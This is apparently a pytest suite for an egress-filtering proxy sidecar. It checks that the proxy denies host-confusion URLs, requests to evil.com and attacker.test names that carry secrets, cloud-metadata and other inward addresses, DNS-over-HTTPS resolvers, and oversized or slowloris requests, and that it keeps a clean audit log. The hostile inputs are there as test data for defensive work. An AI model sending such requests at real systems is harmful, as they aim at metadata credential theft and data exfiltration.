"""Sidecar through real loopback sockets: decisions, canonical dial, resolution order, limits,
audit (DESIGN §9; ATTACKS C.1 9-10, C.2 12-17 and 23, C.3 26, C.8 56/58)."""

import asyncio
import json
import os
import stat

import pytest

from firma.services.health import probe_async as probe_endpoint
from firma.services.sidecar import Sidecar, SidecarConfig, SidecarLimits
from firma.errors import AuditError, PolicyError, SidecarError

from upstreams import HttpUpstream, RawUpstream, Stack, fake_resolver, run, send_raw, split_responses


def get(target: str, host: str | None = None, extra: str = "") -> bytes:
    h = f"Host: {host}\r\n" if host else ""
    return f"GET {target} HTTP/1.1\r\n{h}{extra}Connection: close\r\n\r\n".encode()


def deny_of(resp: bytes):
    (head, body), *_ = split_responses(resp)
    return head.status, head.get_all("x-firma-deny-reason"), json.loads(body)


def test_allowed_and_denied_plain_http_with_audit(tmp_path):
    async def main():
        up = await HttpUpstream(body=b"ok").start()
        async with Stack(tmp_path, allow=[f"127.0.0.1:{up.port}"], bridge=False) as s:
            r = await send_raw(s.sidecar_port, get(f"http://127.0.0.1:{up.port}/p?token=SECRET", f"127.0.0.1:{up.port}",
                                                   "Authorization: Bearer SECRET\r\nCookie: c=SECRET\r\nX-Api-Key: SECRET\r\n"))
            assert r.endswith(b"ok") and r.startswith(b"HTTP/1.1 200")
            r = await send_raw(s.sidecar_port, get("http://evil.com/?q=secret", "evil.com"))
            status, hdr, body = deny_of(r)
            assert status == 403 and hdr == ["host_not_allowed"] and body["denied"] is True and body["reason"] == "host_not_allowed"
        await up.aclose()
        # The upstream received the request with the path and query but no attribution headers.
        (h, _b), = up.rec.requests
        assert h.target == "/p?token=SECRET" and not any(k.lower().startswith("x-firma") for k, _ in h.headers)
        return s

    s = run(main())
    evs = s.events()
    assert [e["decision"] for e in evs] == [1, 2]
    assert evs[0]["resource"] == f"GET http://127.0.0.1:{evs[0]['resource'].split(':')[2].split('/')[0]}/p"
    text = open(s.audit_path).read()
    assert "SECRET" not in text and "secret" not in text  # no query strings, no credentials
    assert stat.S_IMODE(os.stat(s.audit_path).st_mode) == 0o600
    assert stat.S_IMODE(os.stat(s.key_path).st_mode) == 0o600


@pytest.mark.parametrize(
    "target,host,reason",
    [
        ("http://allowed.test/", "evil.test", "host_mismatch"),
        ("http://allowed.test@evil.test/", None, "invalid_host"),
        ("http://evil.test\\@allowed.test/", None, "invalid_host"),
        ("http://allowed.test:8080/", None, "host_not_allowed"),
        ("https://allowed.test/", None, "unsupported_scheme"),
        ("/relative", "allowed.test", "not_proxy_request"),
        ("http://[::ffff:127.0.0.1]/", None, "host_not_allowed"),
        ("http://2130706433/", None, "host_not_allowed"),
    ],
)
def test_request_target_confusions_are_denied_and_never_reach_anyone(tmp_path, target, host, reason):
    calls = []

    async def main():
        async with Stack(tmp_path, allow=["allowed.test"], resolver=fake_resolver({"allowed.test": ["127.0.0.1"]}, calls), bridge=False) as s:
            r = await send_raw(s.sidecar_port, get(target, host))
            return deny_of(r), s

    (status, hdr, body), s = run(main())
    assert status == 403 and body["reason"] == reason
    assert calls == []  # decided before any resolution
    assert [e["deny_reason"] for e in s.events()] == [reason]


def test_duplicate_host_headers_denied(tmp_path):
    async def main():
        async with Stack(tmp_path, allow=["allowed.test"], bridge=False) as s:
            r = await send_raw(s.sidecar_port, b"GET http://allowed.test/ HTTP/1.1\r\nHost: allowed.test\r\nHost: evil.test\r\n\r\n")
            return deny_of(r)

    assert run(main())[2]["reason"] == "duplicate_host"


def test_denied_name_is_never_resolved(tmp_path):
    """ATTACKS C.3 26: decide on the name first; a denied label never reaches the resolver."""
    calls = []

    async def main():
        async with Stack(tmp_path, allow=["allowed.test"], resolver=fake_resolver({}, calls), bridge=False) as s:
            await send_raw(s.sidecar_port, get("http://secret-label.attacker.test/", "secret-label.attacker.test"))
            await send_raw(s.sidecar_port, b"CONNECT secret2.attacker.test:443 HTTP/1.1\r\n\r\n")

    run(main())
    assert calls == []


@pytest.mark.parametrize(
    "name,addrs,cls",
    [
        ("allowed.test", ["127.0.0.1"], "loopback"),
        ("allowed.test", ["93.184.216.34", "10.0.0.5"], "private"),
        ("allowed.test", ["169.254.169.254"], "metadata"),
        ("allowed.test", ["100.64.1.1"], "cgnat"),
        ("allowed.test", ["::ffff:169.254.169.254"], "mapped:metadata"),
        ("allowed.test", ["64:ff9b::a9fe:a9fe"], "nat64:metadata"),
        ("allowed.test", ["2002:a9fe:a9fe::"], "6to4:metadata"),
        ("allowed.test", ["fe80::1"], "link_local"),
        ("allowed.test", ["224.0.0.251"], "multicast"),
        ("metadata.google.internal", ["169.254.169.254"], "metadata"),
    ],
)
def test_resolved_non_public_addresses_are_refused(tmp_path, name, addrs, cls):
    """ATTACKS C.1 9-10 at the decision layer: an allowed name that resolves inward is refused."""

    async def main():
        async with Stack(tmp_path, allow=[name], resolver=fake_resolver({name: addrs}), bridge=False) as s:
            r1 = await send_raw(s.sidecar_port, get(f"http://{name}/", name))
            r2 = await send_raw(s.sidecar_port, f"CONNECT {name}:443 HTTP/1.1\r\n\r\n".encode())
            return deny_of(r1), deny_of(r2), s

    d1, d2, s = run(main())
    for status, _hdr, body in (d1, d2):
        assert status == 403 and body["reason"] == "blocked_address" and cls in body["detail"]
    assert [e["decision"] for e in s.events()] == [2, 2]
    # the audit names the address the name resolved to
    import ipaddress
    want = str(ipaddress.ip_address(addrs[-1]))  # the non-public one (listed last)
    assert [e["deny_reason"] for e in s.events()] == [f"blocked_address:{want}"] * 2


@pytest.mark.parametrize("lit", ["169.254.169.254", "2852039166", "[::ffff:169.254.169.254]", "[64:ff9b::a9fe:a9fe]", "[2002:a9fe:a9fe::]", "10.0.0.1", "0x7f.1"])
def test_allowlisted_inward_ip_literals_still_refused_without_exact_port(tmp_path, lit):
    async def main():
        async with Stack(tmp_path, allow=[lit], bridge=False) as s:
            return deny_of(await send_raw(s.sidecar_port, get(f"http://{lit}/")))

    status, _, body = run(main())
    assert status == 403 and body["reason"] == "blocked_address"


def test_dns_rebinding_dial_is_pinned_to_the_checked_address(tmp_path):
    """One resolution per request; the dial goes to exactly the address that was checked, even if
    the name would resolve elsewhere a moment later."""

    async def main():
        up = await HttpUpstream(body=b"pinned").start()
        answers = [["127.0.0.1"], ["10.9.9.9"]]
        calls = []

        async def flipping(host, port):
            calls.append(host)
            return answers[min(len(calls) - 1, 1)]

        async with Stack(tmp_path, allow=[f"app.test:{up.port}"], resolver=flipping, bridge=False) as s:
            r = await send_raw(s.sidecar_port, get(f"http://app.test:{up.port}/", f"app.test:{up.port}"))
        await up.aclose()
        return r, calls, up

    r, calls, up = run(main())
    assert r.endswith(b"pinned") and calls == ["app.test"] and up.rec.connections == 1
    assert up.rec.requests[0][0].get("host") == f"app.test:{up.port}"


def test_limits_fail_closed(tmp_path):
    limits = SidecarLimits(max_head_bytes=4096, max_body_bytes=1000, max_connections=3, setup_timeout=0.5)

    async def main():
        up = await HttpUpstream().start()
        async with Stack(tmp_path, allow=[f"127.0.0.1:{up.port}"], limits=limits, bridge=False) as s:
            big = b"GET http://127.0.0.1:%d/ HTTP/1.1\r\nX: %s\r\n\r\n" % (up.port, b"a" * 5000)
            r_head = deny_of(await send_raw(s.sidecar_port, big))
            r_body = deny_of(await send_raw(s.sidecar_port, b"POST http://127.0.0.1:%d/ HTTP/1.1\r\nContent-Length: 5000\r\n\r\n" % up.port))
            # slowloris: a head that never completes is cut at the setup timeout
            r_slow = await send_raw(s.sidecar_port, b"GET http://127.0.0.1/ HTTP/1.1\r\nX: a", timeout=5)
            # connection limit: hold 3 idle connections, the 4th is refused
            held = [await asyncio.open_connection("127.0.0.1", s.sidecar_port) for _ in range(3)]
            await asyncio.sleep(0.05)
            r_many = deny_of(await send_raw(s.sidecar_port, get(f"http://127.0.0.1:{up.port}/")))
            for _r, w in held:
                w.close()
            await asyncio.sleep(0.3)
            # chunked body over the limit is cut and never fully forwarded
            chunked = b"POST http://127.0.0.1:%d/ HTTP/1.1\r\nTransfer-Encoding: chunked\r\n\r\n" % up.port + b"800\r\n" + b"x" * 0x800 + b"\r\n0\r\n\r\n"
            await send_raw(s.sidecar_port, chunked, timeout=5)
        await up.aclose()
        return r_head, r_body, r_slow, r_many, up, s

    r_head, r_body, r_slow, r_many, up, s = run(main())
    assert r_head[2]["reason"] == "head_too_large" and r_head[0] == 400
    assert r_body[0] == 413 and r_body[2]["reason"] == "body_too_large"
    assert b"head_timeout" in r_slow
    assert r_many[0] == 503 and r_many[2]["reason"] == "too_many_connections"
    assert up.rec.requests == []  # nothing oversized or refused reached the upstream
    reasons = [e["deny_reason"] for e in s.events()]
    assert {"head_too_large", "body_too_large", "head_timeout", "too_many_connections"} <= set(reasons)
    last = s.events()[-1]  # the over-limit chunked upload: allowed, then aborted mid-body
    assert last["decision"] == 3 and last["deny_reason"] == "body_too_large"


def test_monitor_mode_passes_denies_and_labels_them(tmp_path):
    async def main():
        up = await HttpUpstream(body=b"seen").start()
        async with Stack(tmp_path, allow=[], monitor=True, bridge=False) as s:
            r = await send_raw(s.sidecar_port, get(f"http://127.0.0.1:{up.port}/"))
        await up.aclose()
        return r, s

    r, s = run(main())
    assert r.endswith(b"seen")
    (ev,) = s.events()
    assert ev["decision"] == 1 and ev["deny_reason"].startswith("monitor_mode:host_not_allowed")


def test_bad_policy_or_key_refuses_construction(tmp_path):
    bad = tmp_path / "p.cedar"
    bad.write_text("permit(")
    with pytest.raises(PolicyError):
        Sidecar(SidecarConfig((), str(bad), str(tmp_path / "a"), str(tmp_path / "k")))
    with pytest.raises(PolicyError):
        Sidecar(SidecarConfig(("*.com",), None, str(tmp_path / "a"), str(tmp_path / "k")))
    key = tmp_path / "k2"
    key.write_text("not a key")
    key.chmod(0o600)
    with pytest.raises(AuditError):
        Sidecar(SidecarConfig((), None, str(tmp_path / "a"), str(key)))
    key.chmod(0o644)
    with pytest.raises(AuditError):
        Sidecar(SidecarConfig((), None, str(tmp_path / "a"), str(key)))


def test_key_of_the_wrong_type_refuses_traffic(tmp_path):
    """A well-formed PEM that is not a P-256 key passes the cheap checks at construction; the
    key is parsed before the first request goes out, and that request is refused (503
    audit_unavailable) without reaching the upstream: no unaudited egress. A good key lets the
    same request through (control)."""
    from cryptography.hazmat.primitives import serialization
    from cryptography.hazmat.primitives.asymmetric import ed25519

    bad = tmp_path / "bad"
    bad.mkdir()
    (bad / "audit.key").write_bytes(ed25519.Ed25519PrivateKey.generate().private_bytes(
        serialization.Encoding.PEM, serialization.PrivateFormat.PKCS8, serialization.NoEncryption()))
    (bad / "audit.key").chmod(0o600)
    good = tmp_path / "good"
    good.mkdir()

    async def attempt(tmp):
        up = await HttpUpstream(body=b"seen").start()
        async with Stack(tmp, allow=[f"127.0.0.1:{up.port}"], bridge=False) as s:
            r = await send_raw(s.sidecar_port, get(f"http://127.0.0.1:{up.port}/"))
            failed = s.sidecar.audit.failed
        await up.aclose()
        return r, up.rec.requests, failed

    r, reached, failed = run(attempt(bad))
    assert r.startswith(b"HTTP/1.1 503") and b"audit_unavailable" in r
    assert reached == [] and "P-256" in failed
    r, reached, failed = run(attempt(good))
    assert r.startswith(b"HTTP/1.1 200") and len(reached) == 1 and failed is None


def test_probe_endpoint(tmp_path):
    async def main():
        async with Stack(tmp_path, bridge=False) as s:
            await probe_endpoint(s.endpoint, 2)
        with pytest.raises(SidecarError):
            await probe_endpoint(s.endpoint, 1)  # closed now
        raw = await RawUpstream(reply=b"SSH-2.0-x\r\n").start()
        with pytest.raises(SidecarError):
            await probe_endpoint(f"tcp://127.0.0.1:{raw.port}", 1)
        await raw.aclose()
        sc = Sidecar(SidecarConfig((), None, str(tmp_path / "u.jsonl"), str(tmp_path / "u.key")))
        ep = await sc.start(f"unix://{tmp_path}/sc.sock")
        assert ep == f"unix://{tmp_path}/sc.sock" and stat.S_IMODE(os.stat(tmp_path / "sc.sock").st_mode) == 0o600
        await probe_endpoint(ep, 2)
        await sc.aclose()

    run(main())


def test_dns_reporter_is_rate_bounded_and_audited(tmp_path):
    limits = SidecarLimits(dns_events_per_sec=0.001, dns_burst=5)

    async def main():
        async with Stack(tmp_path, limits=limits, bridge=False) as s:
            rep = s.sidecar.dns_reporter("sbx_dns", "sess")
            for i in range(50):
                rep(f"q{i}.leak.test", 16)
            return s, s.sidecar.dns_dropped

    s, dropped = run(main())
    evs = s.events()
    assert len(evs) == 5 and dropped == 45
    assert evs[0]["action"] == "dns.query" and evs[0]["resource"] == "q0.leak.test TXT" and evs[0]["sandbox_id"] == "sbx_dns"
    assert evs[0]["decision"] == 2


def test_dns_over_tls_https_and_explicit_resolvers_denied_without_resolution(tmp_path):
    """ATTACKS C.3 25 at the decision layer: DoH/DoT/explicit resolvers are denied by name or
    address before any resolution or dial (the fake resolver records every lookup)."""
    calls = []

    async def main():
        async with Stack(tmp_path, allow=["allowed.test"], resolver=fake_resolver({}, calls), bridge=False) as s:
            out = []
            for target in ("cloudflare-dns.com:443", "dns.google:443", "1.1.1.1:853", "8.8.8.8:53", "127.0.0.1:53", "[2606:4700:4700::1111]:443"):
                out.append(await send_raw(s.sidecar_port, f"CONNECT {target} HTTP/1.1\r\n\r\n".encode()))
            out.append(await send_raw(s.sidecar_port, get("http://dns.google/resolve?name=secret.test", "dns.google")))
            return out, s

    out, s = run(main())
    assert all(o.startswith(b"HTTP/1.1 403") for o in out)
    assert calls == []
    assert [e["decision"] for e in s.events()] == [2] * 7


def test_audit_write_failure_fails_closed(tmp_path):
    async def main():
        up = await HttpUpstream(body=b"ok").start()
        async with Stack(tmp_path, allow=[f"127.0.0.1:{up.port}"], bridge=False) as s:
            first = await send_raw(s.sidecar_port, get(f"http://127.0.0.1:{up.port}/a"))
            await asyncio.sleep(0.2)
            def unwritable(*_a, **_k):
                raise OSError(28, "No space left on device")

            s.sidecar.audit._log.append = unwritable  # the log becomes unwritable (disk gone, fd revoked)
            await send_raw(s.sidecar_port, get("http://denied.test/"))  # this event fails to write
            await asyncio.sleep(0.2)
            after = await send_raw(s.sidecar_port, get(f"http://127.0.0.1:{up.port}/b"))
        await up.aclose()
        return first, after, up

    first, after, up = run(main())
    assert first.endswith(b"ok")
    assert after.startswith(b"HTTP/1.1 503") and b"audit_unavailable" in after
    assert [h.target for h, _ in up.rec.requests] == ["/a"]


def test_ipv6_decided_like_ipv4_and_not_opened_by_ipv4_rules(tmp_path):
    """ATTACKS C.1 6: an IPv4 rule does not open [::1]; an exact [::1]:PORT rule does."""

    async def main():
        up = await HttpUpstream(body=b"v6", host="::1").start()
        async with Stack(tmp_path / "a", allow=[f"127.0.0.1:{up.port}"], bridge=False) as s1:
            denied = await send_raw(s1.sidecar_port, get(f"http://[::1]:{up.port}/"))
            denied2 = await send_raw(s1.sidecar_port, f"CONNECT [0:0:0:0:0:0:0:1]:{up.port} HTTP/1.1\r\n\r\n".encode())
        async with Stack(tmp_path / "b", allow=[f"[::1]:{up.port}"], bridge=False) as s2:
            ok = await send_raw(s2.sidecar_port, get(f"http://[0::1]:{up.port}/", f"[::1]:{up.port}"))
        await up.aclose()
        return denied, denied2, ok, up

    (tmp_path / "a").mkdir()
    (tmp_path / "b").mkdir()
    denied, denied2, ok, up = run(main())
    assert deny_of(denied)[2]["reason"] == "host_not_allowed" and denied2.startswith(b"HTTP/1.1 403")
    assert ok.endswith(b"v6") and up.rec.connections == 1
    assert up.rec.requests[0][0].get("host") == f"[::1]:{up.port}"
